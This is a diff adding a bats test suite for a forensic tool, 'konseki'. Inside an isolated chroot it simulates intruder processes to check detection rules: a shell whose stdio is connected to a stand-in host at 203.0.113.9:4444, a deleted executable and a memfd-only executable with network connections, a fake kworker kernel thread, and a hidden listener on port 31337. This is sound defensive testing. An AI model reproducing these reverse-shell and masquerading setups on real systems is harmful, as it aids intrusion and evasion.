@@ -1,0 +1,201 @@
+# live.bats - living processes of an intruder's shapes, in namespaces of their
+# own below a small root: nothing of them is seen, or left, outside.
+#
+# shellcheck shell=bash disable=SC1091,SC2016,SC2030,SC2031,SC2154
+. "$BATS_TEST_DIRNAME/lib.sh"
+
+# The system that is collected: a small root with dash, this program and act.
+live_root() { # DIR
+	small_root "$1"
+	mkdir -p "$1"/{proc,dev,sys}
+	mknod -m 666 "$1/dev/null" c 1 3
+	cp "$konseki" "$1/usr/bin/konseki"
+	cp "$plant/act" "$1/usr/bin/act"
+	cp "$(readlink -f /bin/sh)" "$1/usr/bin/sh"
+	cp "$(command -v sleep)" "$1/usr/bin/sleep"
+	ln -s usr/bin "$1/bin"
+	ldd "$1/usr/bin/sh" "$1/usr/bin/sleep" | grep -o '/[^ :]*\( (\|$\)' |
+		tr -d '( ' | sort -u | while read -r lib; do
+		mkdir -p "$1${lib%/*}"
+		cp -L "$lib" "$1$lib"
+	done
+	# the programs of this system are its own
+	cat >>"$1/var/lib/dpkg/status" <<-EOT
+	Package: base
+	Status: install ok installed
+	Architecture: amd64
+	Version: 1
+
+	EOT
+	(cd "$1" && find usr lib* -type f ! -name ls ! -path '*/dpkg/*' |
+		tee "$dir/owned" | xargs md5sum) \
+		>"$1/var/lib/dpkg/info/base.md5sums"
+	sed 's|^|/|' "$dir/owned" >"$1/var/lib/dpkg/info/base.list"
+}
+
+# Runs a script (stdin) inside, as process 1 of its own namespaces.  When it
+# ends, so does whatever it started.
+inside() {
+	cat >"$root/script"
+	timeout 60 unshare -pfn -m --mount-proc="$root/proc" \
+		env -i PATH=/usr/bin "$(command -v chroot)" "$root" \
+		/usr/bin/sh /script 3>&- 4>&-
+}
+
+# The same for all shapes: wait for the files that say ready, then collect.
+prologue='
+ready() { for f; do n=0; while [ ! -e /tmp/ready.$f ]; do
+	sleep 0.01; n=$((n + 1)); [ $n -lt 1000 ] || { echo "$f: not ready"; exit 99; }
+done; done; }
+collect() { konseki collect --here -o /out.tar.zst "$@" 2>/out.err
+	echo $? >/out.status; }
+act lo 203.0.113.9 listen 203.0.113.9 4444 ready /tmp/ready.listener wait &
+ready listener
+'
+
+setup_file() {
+	begin utmp act
+	[ "$(id -u)" -eq 0 ] || return 0
+	root=$dir/root
+	export root
+	live_root "$root"
+}
+
+teardown_file() {
+	finish
+}
+
+setup() {
+	need_root
+	rm -rf "$root"/out* "$root/tmp" "$dir"/live.*
+	mkdir -m 1777 "$root/tmp"
+}
+
+# Collects what the steps (stdin) start; analyzes outside.
+look() {
+	{ printf '%s' "$prologue"; cat; } | inside || {
+		cat "$root/out.err" >&2
+		return 1
+	}
+	collect_status=$(cat "$root/out.status")
+	mv "$root/out.tar.zst" "$dir/live.tar.zst"
+	weigh "$dir/live.tar.zst"
+}
+
+@test "live/nothing: processes that do nothing odd" {
+	look <<-'EOT'
+	act ready /tmp/ready.idle wait &
+	act connect 203.0.113.9 4444 ready /tmp/ready.client wait &
+	ready idle client
+	collect
+	EOT
+	cat "$root/out.err"
+	[ "$collect_status" -eq 0 ]
+	[ "$analyze_status" -eq 0 ]
+	[ -z "$(found respond)$(found watch)" ]
+	[ "$(verdict)" = 'nothing found' ]
+	event '.event.dataset == "processes" and .process.name == "act" and
+		.process.args[1] == "connect"'
+	event '.event.dataset == "sockets" and .destination.port == 4444 and
+		.destination.ip == "203.0.113.9"'
+}
+
+@test "live/shell: a shell with its standard input on a connection" {
+	look <<-'EOT'
+	act connect 203.0.113.9 4444 ready /tmp/ready.shell stdio exec sh &
+	ready shell
+	collect
+	EOT
+	responds proc_shell_on_network_socket.yml
+	[ "$(verdict)" = respond ]
+	event '.event.dataset == "processes" and
+		.process.executable == "/usr/bin/sh" and
+		.konseki.process.stdio_socket and
+		(.konseki.process.stdio_remote_ip |
+		 tostring | contains("203.0.113.9"))'
+	jq -e 'select(.tier == "respond") | .active == "process"' \
+		"$case_file.findings"
+	grep -q 'proc' "$case_file.verdict"
+	"$konseki" analyze -q "$dir/live.tar.zst" -o "$dir/live.2.case" \
+		--fail-on respond || [ $? -eq 1 ]
+}
+
+@test "live/deleted: an executable that is gone, with a connection" {
+	look <<-'EOT'
+	act deleted /tmp/.x connect 203.0.113.9 4444 open /tmp/.keys \
+		ready /tmp/ready.x wait &
+	ready x
+	collect
+	EOT
+	found respond | grep -qx 'respond proc_deleted_exe_with_socket.yml'
+	event '.konseki.process.executable_deleted and
+		(.process.executable | startswith("/tmp/.x"))'
+	# both the program and the open file are in the archive, whole
+	"$konseki" extract -q "$dir/live.tar.zst" 'recovered/**' \
+		-o "$dir/live.out"
+	find "$dir/live.out" -type f -exec cmp -s {} "$plant/act" \; -print |
+		grep -q .
+	grep -rqx 'kept open' "$dir/live.out"
+}
+
+@test "live/memfd: an executable that was only in memory" {
+	look <<-'EOT'
+	act memfd kdata connect 203.0.113.9 4444 ready /tmp/ready.m wait &
+	ready m
+	collect
+	EOT
+	found respond | grep -qx 'respond proc_memfd_exe_with_socket.yml'
+	event '.konseki.process.executable_memfd and
+		(.process.executable | contains("memfd:kdata"))'
+	"$konseki" extract -q "$dir/live.tar.zst" 'recovered/**' \
+		-o "$dir/live.out"
+	find "$dir/live.out" -type f -exec cmp -s {} "$plant/act" \; -print |
+		grep -q .
+}
+
+@test "live/kernel thread: a process that calls itself one" {
+	look <<-'EOT'
+	act argv0 '[kworker/0:1-events]' comm kworker/0:1 \
+		ready /tmp/ready.k wait &
+	ready k
+	collect
+	EOT
+	responds proc_fake_kernel_thread.yml
+	event '.process.name == "kworker/0:1" and
+		.konseki.process.name_bracketed and
+		.process.executable == "/usr/bin/act"'
+}
+
+@test "live/namespace: a listener in another network namespace" {
+	look <<-'EOT'
+	act netns lo 198.51.100.7 listen 0.0.0.0 31337 ready /tmp/ready.n wait &
+	ready n
+	collect
+	EOT
+	event '.event.dataset == "sockets" and
+		(.source.port == 31337 or .server.port == 31337 or
+		 .konseki.socket.local_port == 31337 or
+		 .destination.port == 31337)'
+	event '(.process.name // "") == "act" and
+		(tostring | contains("31337"))'
+}
+
+@test "live/all: every shape at once, each found" {
+	look <<-'EOT'
+	act connect 203.0.113.9 4444 ready /tmp/ready.shell stdio exec sh &
+	act deleted /tmp/.x connect 203.0.113.9 4444 ready /tmp/ready.x wait &
+	act memfd kdata connect 203.0.113.9 4444 ready /tmp/ready.m wait &
+	act argv0 '[kworker/0:1-events]' comm kworker/0:1 \
+		ready /tmp/ready.k wait &
+	ready shell x m k
+	collect
+	EOT
+	for rule in proc_shell_on_network_socket proc_fake_kernel_thread \
+		proc_deleted_exe_with_socket proc_memfd_exe_with_socket; do
+		found respond | grep -qx "respond $rule.yml"
+	done
+	note "live: $(wc -l <"$case_file.events") events," \
+		"$(count_of respond) respond, $(count_of watch) watch," \
+		"$(count_of note) note"
+	[ -z "$(pgrep -f "$root" || :)" ]
+}
